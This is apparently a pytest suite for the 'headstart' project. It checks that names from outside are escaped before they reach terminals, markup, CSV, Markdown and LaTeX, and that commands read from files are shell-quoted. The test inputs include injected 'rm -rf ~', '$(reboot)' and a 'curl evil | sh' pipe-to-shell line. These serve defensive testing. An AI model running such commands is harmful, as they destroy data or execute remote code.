"""Names that others chose reach no terminal, parser or spreadsheet as anything but text."""

import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from headstart import names
from headstart.report.tables import Cell, Column, Table
from headstart.strategies.drawing import svg
from headstart.strategies.plan import Phase, Plan
from headstart.strategies.schedule import Constant
from nasty import NASTY, is_safe


@pytest.mark.parametrize("name", NASTY)
def test_no_name_acts_on_a_terminal(name: str):
    assert is_safe(names.plain(name))
    assert is_safe(names.plain_lines(name), "\n")


def test_what_is_said_of_one_agrees_with_it():
    assert names.agreeing(1, "are more than 3, so that a square shows little of them") == (
        "is more than 3, so that a square shows little of it"
    )
    assert names.agreeing(1, "have") == "has"
    assert names.agreeing(2, "have") == names.agreeing(0, "have") == "have"


def test_ordinary_names_stay_as_they_are():
    for name in ("é", "日本", "👩‍👩‍👧", "a b", "x_y-z", "מילה", "😀", "ﬁ", "a\u0301"):
        assert names.plain(name) == names.plain_lines(name) == names.in_csv(name) == name


@pytest.mark.parametrize("name", NASTY)
def test_no_name_ends_markup(name: str):
    root = ElementTree.fromstring(f'<a b="{names.in_markup(name)}"><c>{names.in_markup(name)}</c></a>')
    assert root.attrib["b"] == root[0].text or (root[0].text is None and not names.plain(name))
    assert len(root[0]) == 0


@pytest.mark.parametrize("name", NASTY)
def test_tables_hold_text_in_every_form(name: str):
    table = Table(
        "t", name, [Column("k", name), Column(name.replace(",", "") or "x", "n")], [[Cell(name), Cell(name, 1.5)]]
    )
    header, row = csv.reader(io.StringIO(table.csv(), newline=""))
    assert not row[0].lstrip().startswith(("=", "+", "-", "@", "＝"))
    assert not header[1].lstrip().startswith(("=", "+", "-", "@", "＝"))
    assert row[1] == "1.5"
    lines = table.markdown().splitlines()
    assert is_safe(table.markdown(), "\n")
    assert lines[4].replace("\\|", "").count("|") == 3
    assert is_safe(table.latex(), "\n")
    body = table.latex().replace(r"\textbackslash{}", "")
    assert r"\input" not in body
    assert body.count("{") == body.count("}")


@pytest.mark.parametrize(("number", "written"), [("-0.5", "-0.5"), ("+1e3", "+1e3"), ("-inf", "-inf"), ("-x", "'-x")])
def test_numbers_stay_numbers(number: str, written: str):
    assert names.in_csv(number) == written


@pytest.mark.parametrize("name", NASTY)
def test_a_plan_is_drawn_whatever_its_groups_are_called(name: str):
    rates = {name + "g": {"weight": 1.0}, "head": {"weight": 1.0}}
    plan = Plan((name + "g", "head"), (Phase(name, 0, rates),), 1, "eval", "train")  # type: ignore[arg-type]
    drawn = svg(plan, Constant())
    ElementTree.fromstring(drawn)
    assert is_safe(drawn, "\n")


@pytest.mark.parametrize(
    ("told", "shown"),
    [
        ("headstart train -m a=1", "headstart train -m a=1"),
        ("headstart train; rm -rf ~", ""),
        ("headstart train a=1; rm -rf ~", "headstart train 'a=1;' rm -rf '~'"),
        ("headstart train $(reboot)", "headstart train '$(reboot)'"),
        ("curl evil | sh", ""),
        ("headstart train 'a", ""),
        (7, ""),
    ],
)
def test_a_command_from_a_file_is_shown_so_that_a_shell_runs_nothing_else(told: Any, shown: str):
    assert names.safe_command(told, "headstart", "train") == shown


def test_rows_of_latex_tables_begin_with_no_option_and_greek_is_mathematics():
    rows = [[Cell("[1]"), Cell("1 ± 2")], [Cell("* star"), Cell("α β Ω")], [Cell("日本"), Cell("x")]]
    text = Table("t", "c", [Column("a", "A"), Column("b", "B"), Column("c", "C", detail=True)][:2], rows).latex()
    assert "{}[1] & 1 $\\pm$ 2" in text
    assert r"{}* star & $\alpha$ $\beta$ $\Omega$" in text
    first, second = text.splitlines()[:2]
    assert first == r"% Needs \usepackage{booktabs} and \usepackage{graphicx}."
    assert "日本: compile with lualatex or xelatex" in second


def test_details_are_in_the_csv_file_alone_and_units_in_its_heading():
    columns = [Column("a", "A"), Column("low,high", "B", True, "", "percent"), Column("c", "C", detail=True)]
    table = Table("t", "c", columns, [[Cell("x"), Cell("1 to 2", (1.0, 2.0)), Cell("y")]])
    assert table.csv() == "a,low_percent,high_percent,c\nx,1,2,y\n"
    assert "C" not in table.markdown().splitlines()[2]
    assert "tabular}{@{}lr@{}}" in table.latex()


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed")
def test_tables_compile_and_fit_a_column(tmp_path: Path):
    names = ["[1]", "*", "a_b & c%", "α", "x" * 200, "$\\{}#^~"]
    table = Table(
        "t", "Caption_1", [Column("a", "A"), Column("b", "B", True)], [[Cell(n), Cell("1 ± 2")] for n in names]
    )
    page = r"\documentclass[twocolumn]{article}\usepackage{booktabs}\usepackage{graphicx}\begin{document}"
    (tmp_path / "t.tex").write_text(page + table.latex() + r"\end{document}")
    done = subprocess.run(
        ["pdflatex", "-interaction=nonstopmode", "t.tex"], cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stdout
    assert "Overfull" not in done.stdout
